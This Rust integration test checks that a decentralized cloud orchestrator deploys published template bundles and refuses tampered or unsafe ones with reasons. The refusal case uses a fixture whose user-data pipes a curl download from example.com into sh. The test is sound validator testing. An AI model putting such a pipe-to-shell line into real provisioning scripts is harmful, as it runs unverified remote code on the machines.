//! Any template published on TemplateMarket deploys, on a real anvil with the whole system: an
//! author (a second account) stores bundles the orchestrator's catalog has never seen in the
//! content store and publishes them; a tenant (a third account) opens leases on them. The
//! orchestrator fetches each bundle by its on-chain content id, checks the bytes against it and
//! validates it: the valid one runs on the node agent (libvirt's in-process test driver), and a
//! bundle whose bytes do not match its content id, or that breaks a validation rule, fails its
//! VM with the reasons, which the tenant reads in the API. Drafts: the author uploads bundles and
//! reads the verdicts, test-deploys the accepted one on a lease of their own (nobody else can),
//! then publishes it.

use alloy::{
    primitives::{U256, keccak256},
    signers::{Signer, local::PrivateKeySigner},
    transports::http::reqwest,
};
use decloud_content::{ContentStore, EmbeddedStore};
use decloud_node_agent::{
    Agent, Backoff, ConfigLayer, DomainType, Identity, ImageConfig, NetworkConfig,
    create_blank_qcow2, run_link,
};
use decloud_sdk::{
    USDC,
    agent_protocol::{self as proto, NodeResources},
    bindings::{
        LeaseEscrow, MockUSDC, NodeRegistry, TemplateMarket, lease_escrow::ILeaseEscrow,
        node_registry::INodeRegistry,
    },
    testing::TestSystem,
    tx,
    types::{Architecture, BandwidthTier, QualityTier},
};
use serde_json::Value;
use std::{
    collections::BTreeMap,
    future::Future,
    path::{Path, PathBuf},
    process::{Child, Command},
    time::{Duration, Instant},
};
use time::{OffsetDateTime, format_description::well_known::Rfc3339};

/// CI machines have two cores shared with other jobs: generous, but bounded.
const TIMEOUT: Duration = Duration::from_secs(90);
const SEED: &str = "shadowsocks";
const IMAGE: &str = "blank";

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// The orchestrator binary, stopped (SIGTERM, then SIGKILL) when dropped.
struct Orchestrator(Child);

impl Drop for Orchestrator {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .args(["-TERM", &self.0.id().to_string()])
            .status();
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.0.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Polls `check` every 250 ms until it yields a value, or panics with `what` after [`TIMEOUT`].
async fn wait_for<T, F, Fut>(what: &str, mut check: F) -> T
where
    F: FnMut() -> Fut,
    Fut: Future<Output = Option<T>>,
{
    let deadline = Instant::now() + TIMEOUT;
    loop {
        if let Some(v) = check().await {
            return v;
        }
        assert!(
            Instant::now() < deadline,
            "timed out after {TIMEOUT:?} waiting for {what}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn rfc3339(t: OffsetDateTime) -> String {
    t.format(&Rfc3339).unwrap()
}

/// GET `path` as the holder of `token`: (status, JSON body or Null).
async fn get(http: &reqwest::Client, base: &str, path: &str, token: &str) -> (u16, Value) {
    let r = http
        .get(format!("{base}{path}"))
        .bearer_auth(token)
        .send()
        .await
        .unwrap_or_else(|e| panic!("GET {path}: {e}"));
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

/// POST a JSON body: (status, JSON body).
async fn post(http: &reqwest::Client, url: String, body: Value) -> (u16, Value) {
    let r = http
        .post(&url)
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .await
        .unwrap_or_else(|e| panic!("POST {url}: {e}"));
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    let json = serde_json::from_str(&text).unwrap_or(Value::String(text));
    (status, json)
}

/// POST a bundle's published form as the holder of `token`: (status, JSON body).
async fn post_bundle(
    http: &reqwest::Client,
    base: &str,
    token: &str,
    content: Vec<u8>,
) -> (u16, Value) {
    let r = http
        .post(format!("{base}/api/v1/templates/drafts"))
        .bearer_auth(token)
        .header("content-type", "application/json")
        .body(content)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// POST without a body as the holder of `token`: (status, JSON body).
async fn post_auth(http: &reqwest::Client, url: &str, token: &str) -> (u16, Value) {
    let r = http.post(url).bearer_auth(token).send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// Sign-In with Ethereum over HTTP: nonce → EIP-4361 message signed with `signer` → session
/// token.
async fn sign_in(
    http: &reqwest::Client,
    base: &str,
    host: &str,
    chain_id: u64,
    signer: &PrivateKeySigner,
) -> String {
    let (status, body) = post(http, format!("{base}/api/v1/auth/nonce"), Value::Null).await;
    assert_eq!(status, 200, "nonce: {body}");
    let nonce = body["nonce"].as_str().expect("a nonce").to_string();
    let now = OffsetDateTime::now_utc().replace_nanosecond(0).unwrap();
    let message = format!(
        "{host} wants you to sign in with your Ethereum account:\n{}\n\nSign in to DeCloud.\n\n\
         URI: {base}\nVersion: 1\nChain ID: {chain_id}\nNonce: {nonce}\nIssued At: {}\n\
         Expiration Time: {}",
        signer.address().to_checksum(None),
        rfc3339(now),
        rfc3339(now + time::Duration::hours(1)),
    );
    let signature = signer.sign_message(message.as_bytes()).await.unwrap();
    let (status, body) = post(
        http,
        format!("{base}/api/v1/auth/verify"),
        serde_json::json!({
            "message": message,
            "signature": format!("0x{}", hex::encode(signature.as_bytes())),
        }),
    )
    .await;
    assert_eq!(status, 200, "SIWE verify: {body}");
    body["token"].as_str().expect("a session token").to_string()
}

/// Whether the agent's libvirt holds a domain for `vm_id`, and whether it runs.
async fn domain_of(agent: &Agent, vm_id: &str) -> Option<bool> {
    agent
        .owned_domains()
        .await
        .expect("the agent lists its domains")
        .into_iter()
        .find(|d| d.vm_id == vm_id)
        .map(|d| d.active)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_template_published_by_anyone_deploys_and_bad_bundles_are_refused_with_reasons() {
    let system = TestSystem::start()
        .await
        .expect("anvil with the system deployed (run scripts/setup)");
    let d = &system.deployment;
    let chain_id = system.anvil.chain_id();
    let (operator, tenant, author) = (system.provider(1), system.provider(2), system.provider(3));
    let operator_addr = system.address(1);
    let tenant_signer = system.signer(2);
    let tenant_addr = tenant_signer.address();
    let work = tempfile::tempdir().unwrap();

    // The node agent: its key and machine id, on libvirt's in-process test driver.
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let agent_dir = work.path().join("agent");
    std::fs::create_dir_all(&agent_dir).unwrap();
    let image = agent_dir.join("base.qcow2");
    create_blank_qcow2(&image, 16).unwrap();
    let machine = "e2e-node";
    let agent_config = decloud_node_agent::Config::resolve(
        None,
        ConfigLayer::default(),
        ConfigLayer {
            data_dir: Some(agent_dir.join("data")),
            libvirt_uri: Some("test:///default".into()),
            domain_type: Some(DomainType::Qemu),
            orchestrator_url: Some(format!("ws://127.0.0.1:{port}/api/v1/agent/ws")),
            operator: Some(operator_addr),
            machine_id: Some(machine.into()),
            shutdown_timeout_secs: Some(2),
            reserved_memory_mib: Some(0),
            network: Some(NetworkConfig::Network {
                name: "default".into(),
            }),
            images: BTreeMap::from([(
                IMAGE.to_string(),
                ImageConfig {
                    base: image,
                    kernel: None,
                    initrd: None,
                    cmdline: None,
                },
            )]),
            ..Default::default()
        },
    )
    .unwrap();
    let (identity, _) = Identity::load_or_create(&agent_config).unwrap();
    let node_key = identity.address();
    // Resources as discovery reports them, without spending CI time on the benchmark.
    let resources = NodeResources {
        arch: std::env::consts::ARCH.into(),
        cpu_model: "test".into(),
        cpu_cores: 4,
        memory_mib: 4096,
        disks: vec![],
        vm_storage_free_bytes: 1 << 40,
        gpus: vec![],
        compute_points: 400,
    };
    let agent = Agent::open(agent_config, identity, resources)
        .await
        .unwrap();

    // The operator registers that node on-chain with the agent's key and machine id.
    let machine_id = proto::machine_id(machine);
    let node_id = proto::node_id(machine_id, operator_addr);
    assert_eq!(
        node_id,
        keccak256([machine_id.as_slice(), operator_addr.as_slice()].concat()),
        "node id = keccak256(machineId ‖ operator)"
    );
    let registry = NodeRegistry::new(d.contracts.node_registry.address, operator.clone());
    tx::send(
        "NodeRegistry",
        registry.register(
            machine_id,
            node_key,
            "eu-west".into(),
            INodeRegistry::Capabilities {
                vcpus: 4,
                memoryGiB: 4,
                diskGiB: 100,
                gpus: 0,
                bandwidthMbps: 1_000,
                architecture: Architecture::X86_64.into(),
                flags: 1,
            },
            format!("ws://127.0.0.1:{port}"),
            "".into(),
            INodeRegistry::Prices {
                cpuPerHour: 5_000,
                memoryGiBPerHour: 2_500,
                storageGiBPerHour: 50,
                gpuPerHour: 50_000,
            },
        ),
    )
    .await
    .expect("the operator registers the node");

    // The orchestrator binary: SQLite in a temp dir, no catalog of its own, bundles fetched from
    // the content store in `content`, following the chain.
    let content_dir = work.path().join("content");
    let config = work.path().join("orchestrator.toml");
    std::fs::write(
        &config,
        format!(
            "listen = \"127.0.0.1:{port}\"\n\
             database_url = \"sqlite:{db}\"\n\
             [content]\n\
             dir = \"{content}\"\n\
             [siwe]\n\
             domains = [\"127.0.0.1:{port}\"]\n\
             uris = [\"{base}\"]\n\
             chain_ids = [{chain_id}]\n\
             [chain]\n\
             rpc_url = \"{rpc}\"\n\
             node_registry = \"{registry}\"\n\
             lease_escrow = \"{escrow}\"\n\
             template_market = \"{market}\"\n\
             confirmations = 0\n\
             image = \"{IMAGE}\"\n",
            db = work.path().join("orchestrator.db").display(),
            content = content_dir.display(),
            rpc = system.rpc_url(),
            registry = d.contracts.node_registry.address,
            escrow = d.contracts.lease_escrow.address,
            market = d.contracts.template_market.address,
        ),
    )
    .unwrap();
    let _orchestrator = Orchestrator(
        Command::new(env!("CARGO_BIN_EXE_decloud-orchestrator"))
            .arg("--config")
            .arg(&config)
            .env("DECLOUD_LOG", "info")
            .spawn()
            .expect("the orchestrator binary starts"),
    );
    let http = reqwest::Client::new();
    wait_for("the orchestrator to answer /api/v1/health", || async {
        let r = http
            .get(format!("{base}/api/v1/health"))
            .send()
            .await
            .ok()?;
        r.status().is_success().then_some(())
    })
    .await;

    // The agent starts and connects outbound to the orchestrator's WebSocket.
    agent.reconcile().await.unwrap();
    let (stop_agent, agent_stopped) = tokio::sync::watch::channel(false);
    let link = tokio::spawn(run_link(
        agent.clone(),
        format!("ws://127.0.0.1:{port}/api/v1/agent/ws"),
        Backoff {
            initial: Duration::from_millis(200),
            max: Duration::from_secs(2),
        },
        agent_stopped,
    ));
    let observer = {
        let agent = agent.clone();
        tokio::spawn(async move {
            loop {
                let _ = agent.observe().await;
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        })
    };

    // The tenant signs in with SIWE using an anvil key.
    let token = sign_in(
        &http,
        &base,
        &format!("127.0.0.1:{port}"),
        chain_id,
        &tenant_signer,
    )
    .await;
    let (status, session) = get(&http, &base, "/api/v1/auth/session", &token).await;
    assert_eq!(status, 200, "session: {session}");
    assert!(
        session
            .to_string()
            .to_lowercase()
            .contains(&format!("{tenant_addr:#x}")),
        "the session is the tenant's: {session}"
    );

    // The author's bundles, none of them in any catalog: a variant of a seed (valid), one whose
    // stored bytes are then tampered with, and one that pipes a download into a shell.
    let seed = decloud_templates::Bundle::load_dir(root().join("templates/seed").join(SEED))
        .expect("the seed bundle loads");
    let variant = |slug: &str, name: &str| {
        let mut b = seed.clone();
        b.manifest.slug = slug.into();
        b.manifest.name = name.into();
        b
    };
    let relay = variant("relay", "Author's relay");
    let tampered = variant("tampered-relay", "Tampered relay");
    let mut unsafe_bundle = variant("unsafe-relay", "Unsafe relay");
    unsafe_bundle.user_data = "#!/bin/sh\ncurl http://example.com/install.sh | sh\n".into();
    assert!(
        decloud_templates::validate(&unsafe_bundle).is_err(),
        "the unsafe bundle breaks a rule"
    );
    let content = EmbeddedStore::open_with(
        &content_dir,
        decloud_templates::BUNDLE_CID_OPTIONS,
        decloud_content::DEFAULT_MAX_OBJECT_SIZE,
    )
    .await
    .unwrap();
    let policy = decloud_templates::Policy::default();
    let relay_cid = relay.publish(&content, &policy).await.unwrap();
    let tampered_cid = tampered.publish(&content, &policy).await.unwrap();
    // The validator refuses to publish it, so it is stored as raw bytes, as anyone can.
    let unsafe_cid = content
        .put(unsafe_bundle.to_content().into())
        .await
        .unwrap();
    assert_eq!(unsafe_cid, unsafe_bundle.cid());
    // Other bytes under the tampered bundle's content id.
    let object = content_dir.join("objects").join(tampered_cid.to_string());
    assert!(
        object.is_file(),
        "the embedded store keeps {}",
        object.display()
    );
    std::fs::write(
        &object,
        variant("tampered-relay", "Swapped after publishing").to_content(),
    )
    .unwrap();

    let market = TemplateMarket::new(d.contracts.template_market.address, author.clone());
    for cid in [&relay_cid, &tampered_cid, &unsafe_cid] {
        tx::send(
            "TemplateMarket",
            market.publish(cid.to_string(), U256::ZERO, "{}".into()),
        )
        .await
        .expect("the author publishes the template");
    }

    // The valid bundle is fetched, validated and listed under template id 1.
    let template = wait_for("the orchestrator to fetch template 1", || async {
        let (status, body) = get(&http, &base, "/api/v1/templates/1", &token).await;
        (status == 200).then_some(body)
    })
    .await;
    assert_eq!(template["slug"], "relay", "{template}");
    assert_eq!(template["cid"], relay_cid.to_string(), "{template}");
    for refused in ["2", "3"] {
        let (status, body) = get(
            &http,
            &base,
            &format!("/api/v1/templates/{refused}"),
            &token,
        )
        .await;
        assert_eq!(status, 404, "a refused bundle is not listed: {body}");
    }

    // Wait for the node to be known and its agent connected before the tenant picks it.
    let node_path = format!("/api/v1/nodes/{node_id:#x}");
    wait_for(
        "the orchestrator to see the node's agent online",
        || async {
            let (status, body) = get(&http, &base, &node_path, &token).await;
            (status == 200 && body.to_string().contains("\"online\":true")).then_some(())
        },
    )
    .await;

    // The tenant (a third account) deposits and opens one lease on each template.
    let escrow_addr = d.contracts.lease_escrow.address;
    let usdc = MockUSDC::new(d.usdc, tenant.clone());
    let deposit = 30 * USDC;
    tx::send("MockUSDC", usdc.approve(escrow_addr, U256::from(deposit)))
        .await
        .unwrap();
    let escrow = LeaseEscrow::new(escrow_addr, tenant.clone());
    tx::send("LeaseEscrow", escrow.deposit(U256::from(deposit)))
        .await
        .expect("the tenant deposits");
    for template_id in 1..=3u64 {
        tx::send(
            "LeaseEscrow",
            escrow.openLease(
                node_id,
                ILeaseEscrow::Resources {
                    vcpus: 1,
                    memoryGiB: 1,
                    storageGiB: 5,
                    gpus: 0,
                },
                QualityTier::Dedicated.into(),
                BandwidthTier::Basic.into(),
                U256::from(template_id),
                U256::ZERO,
                u64::MAX,
                U256::from(5 * USDC),
            ),
        )
        .await
        .expect("the tenant opens a lease");
    }

    // The published template runs: the node boots the author's bundle, rendered for the VM.
    let vm = wait_for("the VM of template 1 to be running", || async {
        let (status, body) = get(&http, &base, "/api/v1/vms/vm-1", &token).await;
        (status == 200 && body["state"] == "running").then_some(body)
    })
    .await;
    assert_eq!(vm["state"], "running");
    assert_eq!(
        domain_of(&agent, "vm-1").await,
        Some(true),
        "the agent runs the VM's domain in libvirt"
    );
    let record = agent
        .store()
        .vm("vm-1")
        .await
        .unwrap()
        .expect("the agent records the VM");
    assert!(
        record.spec.user_data.starts_with("#cloud-config")
            && record.spec.user_data.contains("shadowsocks"),
        "the VM boots the author's user-data: {}",
        record.spec.user_data
    );
    assert!(
        record.spec.ports.iter().any(|p| p.guest == 8388),
        "the bundle's ports reach the node: {:?}",
        record.spec.ports
    );

    // The tampered bundle and the unsafe one fail their VMs, and the tenant reads why.
    let failure = |vm_id: &'static str| {
        let (http, base, token) = (&http, &base, &token);
        async move {
            wait_for(&format!("{vm_id} to fail"), || async {
                let (status, body) = get(http, base, &format!("/api/v1/vms/{vm_id}"), token).await;
                (status == 200 && body["state"] == "failed")
                    .then(|| body["failure"].as_str().unwrap_or_default().to_string())
            })
            .await
        }
    };
    let mismatch = failure("vm-2").await;
    assert!(
        mismatch.contains("template 2")
            && mismatch.contains("refused")
            && mismatch.contains("does not match its cid"),
        "the tenant sees that the bytes do not match the content id: {mismatch}"
    );
    let rejected = failure("vm-3").await;
    assert!(
        rejected.contains("template 3")
            && rejected.contains("refused")
            && rejected.contains("pipe-to-shell"),
        "the tenant sees the validator's reasons: {rejected}"
    );
    for vm_id in ["vm-2", "vm-3"] {
        assert!(
            agent.store().vm(vm_id).await.unwrap().is_none(),
            "nothing of a refused bundle reaches the node"
        );
    }

    // The tenant closes the leases whose VMs failed, which frees the node's capacity.
    for lease_id in [2u64, 3] {
        tx::send("LeaseEscrow", escrow.closeLease(U256::from(lease_id)))
            .await
            .expect("the tenant closes a failed lease");
    }

    // Drafts: the author uploads bundles and reads the validator's verdict.
    let author_token = sign_in(
        &http,
        &base,
        &format!("127.0.0.1:{port}"),
        chain_id,
        &system.signer(3),
    )
    .await;
    let (status, verdict) =
        post_bundle(&http, &base, &author_token, unsafe_bundle.to_content()).await;
    assert_eq!(status, 422, "{verdict}");
    assert_eq!(verdict["error"]["code"], "bundle_rejected", "{verdict}");
    assert!(
        verdict["error"]["details"]["reasons"][0]
            .as_str()
            .is_some_and(|r| r.contains("pipe-to-shell")),
        "the validator's reasons come back: {verdict}"
    );
    let mut draft = variant("draft-relay", "Draft relay");
    draft.manifest.description = "A relay its author is still testing.".into();
    let (status, accepted) = post_bundle(&http, &base, &author_token, draft.to_content()).await;
    assert_eq!(status, 201, "{accepted}");
    assert_eq!(accepted["cid"], draft.cid().to_string(), "{accepted}");
    let (status, drafts) = get(&http, &base, "/api/v1/templates/drafts", &author_token).await;
    assert_eq!(status, 200);
    assert_eq!(
        drafts.as_array().map(Vec::len),
        Some(1),
        "only the accepted bundle is a draft: {drafts}"
    );
    let test_path = format!("{base}/api/v1/templates/drafts/{}/test", draft.cid());
    // Only the author may deploy their draft.
    let (status, refused) = post_auth(&http, &test_path, &token).await;
    assert_eq!(status, 404, "{refused}");
    let (status, armed) = post_auth(&http, &test_path, &author_token).await;
    assert_eq!(status, 200, "{armed}");

    // The author test-deploys it on a lease of their own, opened without a template.
    let open_plain = |provider: alloy::providers::DynProvider| async move {
        let usdc = MockUSDC::new(d.usdc, provider.clone());
        tx::send("MockUSDC", usdc.approve(escrow_addr, U256::from(10 * USDC)))
            .await
            .unwrap();
        let escrow = LeaseEscrow::new(escrow_addr, provider);
        tx::send("LeaseEscrow", escrow.deposit(U256::from(10 * USDC)))
            .await
            .unwrap();
        tx::send(
            "LeaseEscrow",
            escrow.openLease(
                node_id,
                ILeaseEscrow::Resources {
                    vcpus: 1,
                    memoryGiB: 1,
                    storageGiB: 5,
                    gpus: 0,
                },
                QualityTier::Dedicated.into(),
                BandwidthTier::Basic.into(),
                U256::ZERO,
                U256::ZERO,
                u64::MAX,
                U256::from(5 * USDC),
            ),
        )
        .await
        .expect("a lease without a template opens");
    };
    open_plain(author.clone()).await;
    let vm = wait_for("the author's draft VM to be running", || async {
        let (status, body) = get(&http, &base, "/api/v1/vms/vm-4", &author_token).await;
        (status == 200 && body["state"] == "running").then_some(body)
    })
    .await;
    assert_eq!(vm["state"], "running");
    let record = agent
        .store()
        .vm("vm-4")
        .await
        .unwrap()
        .expect("on the node");
    assert!(
        record.spec.user_data.contains("shadowsocks")
            && record.spec.ports.iter().any(|p| p.guest == 8388),
        "the VM runs the draft: {}",
        record.spec.user_data
    );
    // The draft was the author's next lease only: the tenant's plain lease runs no template.
    open_plain(tenant.clone()).await;
    wait_for("the tenant's plain VM to be running", || async {
        let (status, body) = get(&http, &base, "/api/v1/vms/vm-5", &token).await;
        (status == 200 && body["state"] == "running").then_some(())
    })
    .await;
    let record = agent
        .store()
        .vm("vm-5")
        .await
        .unwrap()
        .expect("on the node");
    assert!(
        !record.spec.user_data.contains("shadowsocks")
            && record.spec.ports.iter().all(|p| p.guest != 8388),
        "nobody else's lease runs the draft: {}",
        record.spec.user_data
    );

    // Satisfied, the author publishes the draft's content id: the orchestrator already holds
    // the content, and the template is deployable by anyone.
    tx::send(
        "TemplateMarket",
        market.publish(draft.cid().to_string(), U256::ZERO, "{}".into()),
    )
    .await
    .expect("the author publishes the draft");
    let published = wait_for("the orchestrator to fetch template 4", || async {
        let (status, body) = get(&http, &base, "/api/v1/templates/4", &token).await;
        (status == 200).then_some(body)
    })
    .await;
    assert_eq!(published["slug"], "draft-relay", "{published}");

    // Stop everything this test started: the agent's link and observer, then the orchestrator
    // (dropped) and anvil (dropped with the system).
    let _ = stop_agent.send(true);
    observer.abort();
    tokio::time::timeout(Duration::from_secs(10), link)
        .await
        .expect("the agent's link stops")
        .unwrap();
    agent.close().await;
}
